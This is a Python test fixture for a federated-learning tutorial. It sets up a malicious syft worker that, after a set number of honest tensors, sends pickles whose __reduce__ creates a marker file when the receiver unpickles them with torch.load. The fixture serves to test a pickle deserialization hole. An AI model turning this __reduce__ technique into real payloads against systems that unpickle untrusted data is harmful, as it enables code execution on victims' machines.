"""A malicious data owner, for the tests: fl_tutorial.worker, answering model.get() with a pickle exploit.

    EVIL_MARKER=PATH EVIL_AFTER=N python -m tests.evil_worker --id client1 --port 0 ...

It serves as the real worker does, except that every tensor (not a scalar: the
loss stays honest) it sends after its first N such tensors is replaced by a pickle whose
__reduce__ would create the file PATH when unpickled (syft 0.2.6 unpickles the
tensors it receives with torch.load).
"""
import os
import pickle

from fl_tutorial.pysyft.env import import_syft
from fl_tutorial.remote import worker


class Exploit:
    """Unpickling this calls open(path, "w"): a file appears where none should."""

    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return open, (self.path, "w")


def exploit_pickle(path):
    """The exploit, pickled with protocol 2: it begins as torch.save's files do."""
    return pickle.dumps(Exploit(path), protocol=2)


def main():
    import_syft()
    from syft.serde.msgpack import torch_serde

    real, sent = torch_serde.torch_tensor_serializer, [0]
    marker, after = os.environ["EVIL_MARKER"], int(os.environ.get("EVIL_AFTER", "0"))

    def serializer(owner, tensor):
        if getattr(tensor, "child", None) is None and tensor.dim() > 0:  # data, not a pointer's wrapper
            sent[0] += 1
            if sent[0] > after:
                return exploit_pickle(marker)
        return real(owner, tensor)

    torch_serde.torch_tensor_serializer = serializer
    worker.run()


if __name__ == "__main__":
    main()
